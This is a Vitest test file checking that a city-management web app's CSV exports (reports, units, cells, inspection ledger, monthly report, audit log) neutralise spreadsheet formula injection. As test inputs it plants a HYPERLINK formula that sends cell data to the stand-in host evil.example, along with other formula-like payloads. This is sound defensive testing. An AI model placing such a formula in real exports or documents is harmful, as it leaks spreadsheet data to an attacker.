import { beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { testApp, type TestApp } from '../helpers/app.ts';
import { TEST_DB } from '../helpers/db.ts';
import { insertCell, square, twoStreets } from '../helpers/cells.ts';
import { createUser, signIn, type Headers } from '../helpers/auth.ts';

// Every CSV export writes a cell that starts with = + - @ tab or CR as text (a leading apostrophe),
// so a spreadsheet never runs what a resident or a planner typed.

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")';
let t: TestApp;
let admin: Headers;
let unitId: number;
let cellOfUnit: number;

beforeAll(async () => {
  t = await testApp();
  const ids = await twoStreets(t.db);
  await insertCell(t.db, { code: '610302001001', name: '@SUM(1+1)*cmd', level: 3, parentId: ids.west, rings: square(107.01, 34.01, 0.02) });
  await createUser(t.db, 'root', 'admin');
  admin = await signIn(t.app, 'root');
  const res = await t.app.inject({
    method: 'POST', url: '/api/reports',
    payload: { location: { type: 'Point', coordinates: [107.02, 34.02] }, category: 'fire', severity: 'ordinary', description: EVIL, reporter: { name: '+1 cmd', contact: '13800000000' } },
  });
  expect(res.statusCode, res.body).toBe(201);
  const unit = await t.app.inject({ method: 'POST', url: '/api/units', headers: admin, payload: { type: 'Feature', geometry: { type: 'Point', coordinates: [107.02, 34.02] }, properties: { type: 'company', name: '-2+3 公司', address: '\t=1+1' } } });
  expect(unit.statusCode, unit.body).toBe(201);
  unitId = unit.json().id;
  cellOfUnit = unit.json().properties.cellId;
});

const csv = async (url: string) => {
  const res = await t.app.inject({ url, headers: admin });
  expect(res.statusCode, res.body).toBe(200);
  return parse(res.body.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
};
const cells = (rows: string[][]) => rows.flat();

describe(`CSV exports neutralize formulas (${TEST_DB})`, () => {
  it('reports, units, cells, the unit ledger, the monthly report and the audit log', async () => {
    const reports = cells(await csv('/api/export/reports.csv'));
    expect(reports).toContain(`'${EVIL}`);
    expect(reports).toContain("'+1 cmd");
    const units = cells(await csv('/api/units/export.csv'));
    expect(units).toContain("'-2+3 公司");
    expect(units).toContain("'=1+1");
    expect(cells(await csv('/api/export/cells.csv'))).toContain("'@SUM(1+1)*cmd");
    const patrol = await t.app.inject({ method: 'POST', url: '/api/inspections', headers: admin, payload: { cellId: cellOfUnit } });
    expect(patrol.statusCode, patrol.body).toBe(201);
    const visit = await t.app.inject({ method: 'POST', url: `/api/inspections/${patrol.json().id}/visits`, headers: admin, payload: { unitId } });
    expect(visit.statusCode, visit.body).toBe(201);
    expect(cells(await csv(`/api/inspections/ledger/units/${unitId}?format=csv`))).toContain("'-2+3 公司");
    const month = new Date().toISOString().slice(0, 7);
    expect(cells(await csv(`/api/reports/monthly.csv?month=${month}&level=3`)).some((c) => c.startsWith("'@SUM"))).toBe(true);
    // The audit log names the unit and the cell as they are called now.
    const audit = cells(await csv('/api/audit.csv?lang=zh-CN'));
    expect(audit).toContain("'-2+3 公司");
    // Nothing anywhere starts as a formula.
    for (const all of [reports, units, audit]) expect(all.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});
